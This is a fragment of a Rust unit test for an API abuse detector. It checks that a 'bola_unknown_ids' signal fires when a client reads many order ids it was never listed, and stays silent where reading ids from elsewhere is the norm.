    // Learning: clients list, then read what the list gave them (and an odd other one).
    for k in 0..40i64 {
        let c = format!("10.9.1.{}", k % 5);
        f.call(&list(&c, "/orders"), "/orders", k * 3000, None);
        let id = if k == 7 { 55 } else { 1 + k as u64 % 3 };
        f.call(&one(&c, "/orders", id, 200), "/orders/{id}", k * 3000 + 1, None);
    }
    assert!(f.names().is_empty(), "{:?}", f.names());
    // Then one client reads twelve objects it was never given (not in sequence).
    f.call(&list("10.9.0.2", "/orders"), "/orders", 200_000, None);
    let mut seen = Vec::new();
    for k in 0..12u64 {
        seen.extend(f.call(&one("10.9.0.2", "/orders", 1000 + k * 37, 200), "/orders/{id}", 200_100 + k as i64, None));
    }
    assert_eq!(seen, ["bola_unknown_ids"]);
    // Where clients read objects by ids from elsewhere as a rule, nothing is a sign.
    let mut g = Feed::new(cfg);
    for k in 0..40i64 {
        let c = format!("10.9.2.{}", k % 5);
        g.call(&list(&c, "/items"), "/items", k * 3000, None);
        g.call(&one(&c, "/items", 5000 + k as u64 * 37, 200), "/items/{id}", k * 3000 + 1, None);
    }
    g.call(&list("10.9.0.3", "/items"), "/items", 200_000, None);
    for k in 0..12u64 {
        g.call(&one("10.9.0.3", "/items", 9000 + k * 37, 200), "/items/{id}", 200_100 + k as i64, None);
        // Refused reads are not objects read; a client never taught ids is not judged.
        g.call(&one("10.9.0.4", "/items", 9000 + k * 37, 200), "/items/{id}", 200_100 + k as i64, None);
    }
    assert!(!g.names().contains(&"bola_unknown_ids"), "{:?}", g.names());
}
